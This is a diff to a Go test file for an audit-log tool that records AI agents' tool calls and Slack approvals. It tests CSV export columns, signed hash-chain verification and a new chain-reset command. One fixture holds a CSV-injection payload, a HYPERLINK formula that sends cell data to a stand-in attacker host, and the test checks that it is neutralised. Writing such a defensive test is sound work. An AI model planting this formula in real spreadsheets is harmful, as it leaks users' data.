@@ -9,6 +9,7 @@ import (
 	"os"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -104,7 +105,7 @@ func record(t *testing.T, st store.Store, start time.Time, from, n int) {
 	for i := from; i < from+n; i++ {
 		at := start.Add(time.Duration(i-from) * time.Hour)
 		r := store.Request{ID: fmt.Sprintf("req-%d", i), SessionID: []string{"sess-a", "sess-b"}[i%2], CLIRequestID: fmt.Sprint("c", i),
-			Kind: store.KindTool, ToolName: []string{"Bash", "Write", "Bash"}[i%3], CreatedAt: at}
+			Kind: store.KindTool, ToolCall: store.ToolCall{ToolName: []string{"Bash", "Write", "Bash"}[i%3]}, CreatedAt: at}
 		if err := st.CreateRequest(ctx, r); err != nil {
 			t.Fatal(err)
 		}
@@ -451,7 +452,7 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 		{Outcome: store.OutcomeAllow, Grant: "g1"},
 	} {
 		at := trailDay.Add(time.Duration(6+i) * time.Hour)
-		r := store.Request{ID: fmt.Sprint("req-by-", i), SessionID: "sess-a", CLIRequestID: fmt.Sprint("cb", i), Kind: store.KindTool, ToolName: "Bash", CreatedAt: at}
+		r := store.Request{ID: fmt.Sprint("req-by-", i), SessionID: "sess-a", CLIRequestID: fmt.Sprint("cb", i), Kind: store.KindTool, ToolCall: store.ToolCall{ToolName: "Bash"}, CreatedAt: at}
 		must(t, st.CreateRequest(context.Background(), r))
 		d.At = at.Add(time.Minute)
 		_, err := st.Decide(context.Background(), r.ID, d)
@@ -464,7 +465,8 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 	}
 	rows, err := csvRows(out)
 	must(t, err)
-	want := []string{"Time (UTC)", "Who", "Who (name)", "Action", "Tool", "Detail", "Channel", "Outcome", "Rule", "Thread link", "Request", "Session", "Seq", "Entry"}
+	want := []string{"Time (UTC)", "Who", "Who (name)", "Action", "Tool", "Input", "Detail", "Approvers", "Channel", "Outcome", "Rule",
+		"Working directory", "Thread link", "Request", "Session", "Seq", "Entry", "Input SHA-256"}
 	if strings.Join(rows[0], "|") != strings.Join(want, "|") {
 		t.Fatalf("header = %q, want %q", rows[0], want)
 	}
@@ -474,16 +476,16 @@ func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
 		t.Fatalf("%d rows, want the header and 9: %q", len(rows), rows)
 	}
 	settled := rows[2]
-	if got := strings.Join(settled[:10], "|"); got != "2026-11-20 00:01:00|U1|ann|settled|Bash||C1|allow||https://acme.slack.com/archives/C1/p1763596800000100" {
+	if got := strings.Join(settled[:13], "|"); got != "2026-11-20 00:01:00|U1|ann|settled|Bash||||C1|allow|||https://acme.slack.com/archives/C1/p1763596800000100" {
 		t.Errorf("row = %q", got)
 	}
-	if denied := rows[4]; denied[5] != "not on prod" || denied[7] != "deny" {
+	if denied := rows[4]; denied[6] != "not on prod" || denied[9] != "deny" {
 		t.Errorf("a denial's row = %q", denied)
 	}
-	if ran := rows[5]; ran[5] != `'=HYPERLINK("https://evil.example/?"&A1,"ok")` {
-		t.Errorf("a formula from a tool's input reached the sheet as %q; want it prefixed with ' so it stays text", ran[5])
+	if ran := rows[5]; ran[6] != `'=HYPERLINK("https://evil.example/?"&A1,"ok")` {
+		t.Errorf("a formula from a tool's input reached the sheet as %q; want it prefixed with ' so it stays text", ran[6])
 	}
-	if byRule, byGrant := rows[7][8], rows[9][8]; byRule != "no-pipe-to-shell" || byGrant != "grant g1" {
+	if byRule, byGrant := rows[7][10], rows[9][10]; byRule != "no-pipe-to-shell" || byGrant != "grant g1" {
 		t.Errorf("rule column = %q and %q, want the policy rule and the grant", byRule, byGrant)
 	}
 }
@@ -520,6 +522,10 @@ func TestAuditArgumentsAreChecked(t *testing.T) {
 		{"verify", "extra"}, {"verify", "-from", "x", "-file", "y"}, {"verify", "-file", "/nonexistent/export.jsonl"},
 		{"export", "-format", "xml"}, {"export", "-outcome", "maybe"}, {"export", "-since", "yesterday"},
 		{"export", "-since", "2026-11-02", "-until", "2026-11-01"}, {"export", "extra"},
+		{"verify", "-expect", "12"}, {"verify", "-expect", "12:abc"}, {"verify", "-expect", "0:" + strings.Repeat("a", 64)},
+		{"verify", "-expect", "12:" + strings.Repeat("A", 64)},
+		{"reset"}, {"reset", "-reason", " "}, {"reset", "-reason", strings.Repeat("x", 501)}, {"reset", "-reason", "why", "extra"},
+		{"reset", "-reason", "why", "-by", ""}, {"reset", "-reason", "no signing key here"},
 	} {
 		if out, err := runProgram(t, env, append([]string{"audit"}, args...)...); err == nil {
 			t.Errorf("audit %q succeeded:\n%s", args, out)
@@ -568,8 +574,8 @@ func TestE2EApprovalsAreSealedAndVerify(t *testing.T) {
 			}
 			rows, err := csvRows(csvOut)
 			must(t, err)
-			if len(rows) != 2 || rows[1][1] != lee || rows[1][7] != "allow" || rows[1][6] != general ||
-				!strings.HasSuffix(rows[1][9], "/archives/"+general+"/p"+strings.Replace(thread, ".", "", 1)) {
+			if len(rows) != 2 || rows[1][1] != lee || rows[1][9] != "allow" || rows[1][8] != general || rows[1][5] != "echo shipped > deploy.txt" ||
+				rows[1][11] != a.workdir || !strings.HasSuffix(rows[1][12], "/archives/"+general+"/p"+strings.Replace(thread, ".", "", 1)) {
 				t.Errorf("the approval's row = %q, want lee's allow in %s linking to thread %s", rows[1:], general, thread)
 			}
 		})
@@ -602,12 +608,63 @@ func TestAuditExportSaysHowFarItIsOnStderr(t *testing.T) {
 	if len(lines) != progressEvery+1 || !strings.Contains(lines[len(lines)-1], `"tool":"Write"`) {
 		t.Errorf("stdout = %d lines ending %q; want the export alone: %d links and the entry", len(lines), lines[len(lines)-1], progressEvery)
 	}
-	// Never sealed (no bot ran): the export still checks, as a chain.
+	// Never sealed (no bot ran): the export checks as a chain, but no
+	// signature says it is the one the bots wrote, so verify passes it
+	// only when told the log was never sealed.
 	path := filepath.Join(t.TempDir(), "export.jsonl")
 	must(t, os.WriteFile(path, []byte(stdout.String()), 0o600))
-	out, err := runProgram(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "audit", "verify", "-file", path)
+	requireAll(t, verifyFails(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "-file", path), "10001 entries and no checkpoint", "-allow-unsealed")
+	out, err := runProgram(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "audit", "verify", "-allow-unsealed", "-file", path)
 	if err != nil {
 		t.Fatalf("audit verify -file: %v\n%s", err, out)
 	}
 	requireAll(t, out, "verified 1 entries and 0 checkpoints", fmt.Sprintf("%d entries left out", progressEvery), "10001 entries after the last checkpoint are unsealed")
+}
+
+// TestAuditResetVouchesOnlyForAChainThatLinks: a reset over a chain an
+// entry of which was changed acknowledges the break, and verify checks
+// the log from it on, noting the break; a reset over a chain that links
+// vouches for it, so an entry changed before it afterwards still fails.
+func TestAuditResetVouchesOnlyForAChainThatLinks(t *testing.T) {
+	reset := func(t *testing.T, tr *trail) string {
+		t.Helper()
+		env := append(slices.Clone(tr.env), "DECISION_SIGNING_KEY="+testKeys.sign)
+		out, err := runProgram(t, env, "audit", "reset", "-reason", "checked by lee", "-by", "lee")
+		if err != nil {
+			t.Fatalf("audit reset: %v\n%s", err, out)
+		}
+		return out
+	}
+	t.Run("OverABrokenChain", func(t *testing.T) {
+		tr := recordSealed(t, boltBackend)
+		es := tr.entries(t)
+		es[4].entry.By = "U0EVE"
+		tr.rewrite(t, es, false)
+		verifyFails(t, tr.env)
+		requireAll(t, reset(t, tr), "the chain before it does not hold")
+		out, err := runProgram(t, tr.env, "audit", "verify")
+		if err != nil {
+			t.Fatalf("audit verify after the reset: %v\n%s", err, out)
+		}
+		requireAll(t, out, "note: before the reset at seq 25 the log does not hold (entry "+es[4].id+" (seq 5) was changed",
+			"the reset acknowledged it", "an operator reset the chain at seq 25", "superseding the checkpoint at seq 16")
+		st := tr.open(t)
+		defer st.Close()
+		all, err := st.AuditLog(context.Background(), "", 0)
+		must(t, err)
+		if last := all[len(all)-1]; last.Action != store.AuditChainReset || last.By != "operator:lee" || !strings.Contains(last.Message, "checked by lee") {
+			t.Errorf("the reset's entry = %+v", last)
+		}
+	})
+	t.Run("OverAChainThatLinks", func(t *testing.T) {
+		tr := recordSealed(t, boltBackend)
+		requireAll(t, reset(t, tr), "the chain up to it links from its start")
+		if out, err := runProgram(t, tr.env, "audit", "verify"); err != nil {
+			t.Fatalf("audit verify after the reset: %v\n%s", err, out)
+		}
+		es := tr.entries(t)
+		es[4].entry.By = "U0EVE"
+		tr.rewrite(t, es, false)
+		requireAll(t, verifyFails(t, tr.env), "BROKEN: entry "+es[4].id+" (seq 5) was changed", "proven by the checkpoint at seq 25")
+	})
 }
